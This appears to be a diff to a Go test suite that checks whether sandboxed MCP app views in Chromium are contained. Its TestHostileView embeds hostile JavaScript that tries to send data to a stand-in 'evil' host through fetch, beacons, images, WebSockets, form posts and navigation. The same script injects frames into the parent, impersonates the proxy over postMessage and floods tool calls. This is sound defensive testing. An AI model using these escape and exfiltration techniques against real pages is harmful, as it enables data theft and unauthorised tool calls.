@@ -26,15 +26,19 @@ func document(t *testing.T, script string) *apps.View {
 	return &apps.View{URI: "ui://test/view", HTML: []byte("<!doctype html><title>Test</title><body><p>a view</p><script>" + string(own) + "(async () => {" + script + "})();</script>")}
 }
 
-// oneTool is a server with one tool.
-type oneTool struct{ called atomic.Int64 }
+// oneTool is a server with a tool, and one for floods of calls.
+type oneTool struct{ called, flooded atomic.Int64 }
 
 func (o *oneTool) Tools() []*mcp.Tool {
-	return []*mcp.Tool{{Name: "one", InputSchema: json.RawMessage(`{"type":"object"}`)}}
+	return []*mcp.Tool{{Name: "one", InputSchema: json.RawMessage(`{"type":"object"}`)}, {Name: "many", InputSchema: json.RawMessage(`{"type":"object"}`)}}
 }
 
 func (o *oneTool) CallTool(_ context.Context, name string, arguments json.RawMessage, _ ...mcpclient.CallOption) (*mcp.CallToolResult, error) {
-	o.called.Add(1)
+	if name == "many" {
+		o.flooded.Add(1)
+	} else {
+		o.called.Add(1)
+	}
 	return &mcp.CallToolResult{Content: []mcp.Content{&mcp.TextContent{Text: name + string(arguments)}}}, nil
 }
 
@@ -144,6 +148,19 @@ func TestDeclaredOrigin(t *testing.T) {
 	}
 }
 
+// What views say on their consoles is heard, wherever Chromium runs them: or the other tests see nothing.
+func TestConsoleIsHeard(t *testing.T) {
+	for name, wild := range map[string]bool{"without an origin": false, "with an origin of its server": true} {
+		t.Run(name, func(t *testing.T) {
+			s := show(t, document(t, `await begin(); console.error("loud and clear"); setTimeout(() => { throw new Error("thrown on purpose"); });`), &oneTool{}, nil, wild)
+			s.ready()
+			for _, text := range []string{"loud and clear", "thrown on purpose"} {
+				s.await(text, func() bool { return strings.Contains(strings.Join(s.errors(), "\n"), text) })
+			}
+		})
+	}
+}
+
 // A hostile view gets nowhere, and the page stays.
 func TestHostileView(t *testing.T) {
 	var reached atomic.Int64
@@ -168,7 +185,11 @@ func TestHostileView(t *testing.T) {
 				await attempt("top.location", () => { top.location = evil; return "refused"; });
 				await attempt("window", () => open(evil) === null ? "refused" : "opened");
 				await attempt("fetch", () => fetch(evil).then(() => "reached"));
-				await attempt("host's server", () => fetch(`+"`"+`${evil}../host`+"`"+`).then(() => "reached"));
+				const host = [...location.ancestorOrigins].at(-1);
+				await attempt("host's server", () => fetch(host + "/taken", { mode: "no-cors" }).then(() => "reached"));
+				await attempt("host's image", () => new Promise((resolve, reject) => { const i = new Image(); i.onload = () => resolve("reached"); i.onerror = reject; i.src = host + "/taken"; }));
+				await attempt("proxy's frame", () => { const f = parent.document.createElement("iframe"); f.src = evil; parent.document.body.append(f); return "refused"; });
+				await attempt("as the proxy", () => { parent.parent.postMessage({ jsonrpc: "2.0", id: "p", method: "tools/call", params: { name: "one" } }, "*"); return "refused"; });
 				await attempt("socket", () => new Promise((resolve, reject) => { const w = new WebSocket(evil.replace("http", "ws")); w.onopen = () => resolve("reached"); w.onerror = reject; }));
 				await attempt("beacon", () => { navigator.sendBeacon(evil, "x"); return "refused"; });
 				await attempt("image", () => new Promise((resolve, reject) => { const i = new Image(); i.onload = () => resolve("reached"); i.onerror = reject; i.src = evil; }));
@@ -178,6 +199,7 @@ func TestHostileView(t *testing.T) {
 				await attempt("initialize again", () => ask("ui/initialize", { protocolVersion: "2026-01-26", appInfo: { name: "other", version: "1" }, appCapabilities: {} }).then((m) => m.error ? "refused" : "answered"));
 				await attempt("another tool", () => ask("tools/call", { name: "other" }).then((m) => m.error ? "refused" : "answered"));
 				await attempt("large", () => ask("tools/call", { name: "one", arguments: { x: "x".repeat(5 << 20) } }).then((m) => m.error ? "refused" : "answered"));
+				await attempt("50 MB", () => { say({ id: "huge", method: "tools/call", params: { name: "one", arguments: { x: "x".repeat(50 << 20) } } }); return ask("ping").then((m) => m.error ? "broken" : "refused"); });
 				for (let i = 0; i < 10; i++) notify("ui/notifications/sandbox-proxy-ready", {});
 				const foreign = new Promise((resolve) => addEventListener("message", (event) => { if (event.data.id === "foreign") resolve(); }));
 				const child = document.createElement("iframe");
@@ -187,7 +209,7 @@ func TestHostileView(t *testing.T) {
 				const form = document.createElement("form");
 				form.action = evil; form.method = "post"; document.body.append(form);
 				await attempt("form", () => { form.submit(); return "refused"; });
-				await attempt("flood", () => { for (let i = 0; i < 10000; i++) say({ id: "flood" + i, method: "tools/list" }); return "refused"; });
+				await attempt("flood", () => { for (let i = 0; i < 10000; i++) say({ id: "flood" + i, method: "tools/call", params: { name: "many" } }); return "refused"; });
 				await attempt("end", () => "refused");
 				location = evil + "?taken";
 			`), server, opts, wild)
@@ -204,15 +226,16 @@ func TestHostileView(t *testing.T) {
 					break
 				}
 			}
-			if !wild { // the console of a frame of another site is not the page's
+			if !wild { // a frame of another site reports a navigation to no console that is heard
 				s.await("the browser to refuse the navigation", func() bool { return strings.Contains(strings.Join(s.errors(), "\n"), "frame-src") })
 			}
 			s.await("the foreign frame", func() bool { return eval[int](s, "strangers") > 0 })
 			if got := eval[string](s, `document.title + location.origin + document.cookie + localStorage.getItem("secret")`); got != "Host"+s.page+"secret=hosthost" {
 				t.Errorf("the page became %s", got)
 			}
-			if n := server.called.Load(); n > 0 || s.session.App().Name != "test" {
-				t.Errorf("got %d calls, app %q", n, s.session.App().Name)
+			s.await("the flood", func() bool { return server.flooded.Load() > 0 })
+			if n := server.called.Load(); n > 0 || server.flooded.Load() > 600 || s.session.App().Name != "test" || s.asked.Load() > 0 {
+				t.Errorf("got %d calls, %d of the flood, app %q, %d requests to the host", n, server.flooded.Load(), s.session.App().Name, s.asked.Load())
 			}
 		})
 	}
